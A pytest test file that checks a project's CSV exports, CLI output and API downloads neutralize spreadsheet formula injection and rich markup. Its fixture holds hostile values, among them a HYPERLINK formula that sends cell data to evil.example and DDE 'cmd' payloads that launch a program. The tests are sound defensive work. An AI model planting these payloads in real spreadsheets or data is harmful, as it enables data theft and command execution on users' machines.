"""Outputs never attack their readers: no CSV cell starts a formula, CLI tables print text as text."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

import pytest
from typer.testing import CliRunner

from eventwire import export
from eventwire.cli import app
from eventwire.csvsafe import FORMULA_STARTS, safe_cell, write_csv
from eventwire.store import Store
from factories import sample_record

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

ENV = {"COLUMNS": "200", "NO_COLOR": "1", "TERM": "dumb"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """Article text whose fields start with every formula character, and markup rich would read."""
    record = sample_record("+cmd|' /C calc'!A0 Rebels shelled the town of Goma, killing three [sic] people.")
    record.article.title = FORMULA
    record.article.source = "@SUM(1+1)*cmd|' /C calc'!A0"
    record.events[0].actor = "-2+3+cmd|' /C calc'!A0"
    record.events[0].recipient = "\t=1+1"
    record.events[0].place = "\r=1+1"
    record.quotes[0].text = "[/] we will [bold]hold[/bold] the town [the rebels] [link=http://evil.example]x[/link]"
    record.quotes[0].speaker = "=cmd"
    for actor in record.actors:
        actor.name = "@" + actor.name
    record.events[0].actor_id = record.actors[0].id
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with Store(db) as store:
        store.write([record])
        store.record_error("=evil.txt", "-reason [/] [link=http://evil.example]x[/link]")
    return db


def assert_no_formula(text: str) -> int:
    """Every cell of a CSV text is inert: numbers, or text not starting with a formula character."""
    cells = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            cells += 1
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)  # a negative number is a number, not a formula
                except ValueError:
                    pytest.fail(f"formula cell in CSV: {cell!r}")
    return cells


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-x", "-2+3", "-1e5+cmd", "@SUM(A1)", "\t=1", "\r=1", "--",
                                   "- 1", "-1 ", "-\n1"])
def test_formula_leading_text_is_quoted_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-66.9, -3, 0, None, "", "Goma", "a=b", "'=already", "1-2", "-", "-3", "+1.5",
                                   "-66.9"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_header_row_is_neutralized_too():
    buffer = io.StringIO()
    write_csv(buffer, [{"=x": "-y", "n": -1.5}], ["=x", "n"])
    assert buffer.getvalue().splitlines() == ["'=x,n", "'-y,-1.5"]


@pytest.mark.parametrize("profile", export.PROFILES)
def test_no_export_cell_starts_a_formula(hostile_db, profile, tmp_path):
    from eventwire.resolve.incidents import resolve

    out = tmp_path / f"{profile}.csv"
    with Store(hostile_db) as store:
        resolve(store.conn)
        n = export.export(store.conn, profile, "csv", out, include_all=True)
    text = out.read_text(encoding="utf-8")
    assert n >= 1 and assert_no_formula(text) > 0
    if profile in ("native", "acled"):
        assert "'" + FORMULA.replace('"', '""') in text or "'@SUM" in text


@pytest.mark.parametrize("command", ["events", "quotes", "actors", "incidents", "errors"])
def test_no_cli_listing_csv_cell_starts_a_formula(hostile_db, command):
    result = CliRunner().invoke(app, [command, "--db", str(hostile_db), "--format", "csv"], env=ENV)
    assert result.exit_code == 0, result.output
    assert assert_no_formula(result.stdout) > 0


def test_no_api_csv_download_cell_starts_a_formula(hostile_db):
    from eventwire.web.app import create_app

    response = TestClient(create_app(hostile_db)).get("/api/events?format=csv&all=true")
    assert response.status_code == 200
    assert assert_no_formula(response.text) > 0 and "'-2+3" in response.text


@pytest.mark.parametrize("command", ["quotes", "errors", "events"])
def test_cli_tables_show_markup_in_text_as_written(hostile_db, command):
    result = CliRunner().invoke(app, [command, "--db", str(hostile_db), "--all"] if command == "events"
                                else [command, "--db", str(hostile_db)], env=ENV)
    assert result.exit_code == 0, result.output
    if command == "quotes":
        assert "[the rebels]" in result.stdout and "[bold]hold[/bold]" in result.stdout
        assert "[link=http://evil.example]" in result.stdout and "\x1b]8;" not in result.stdout
    elif command == "errors":
        assert "[/]" in result.stdout and "[link=http://evil.example]" in result.stdout
    else:
        assert "[sic]" in result.stdout


def test_extract_reports_a_path_with_markup_as_written(tmp_path):
    missing = tmp_path / "[/]odd[link=x].txt"
    result = CliRunner().invoke(app, ["extract", str(missing)], env=ENV)
    assert result.exit_code == 2 and "[/]odd[link=x].txt" in result.output
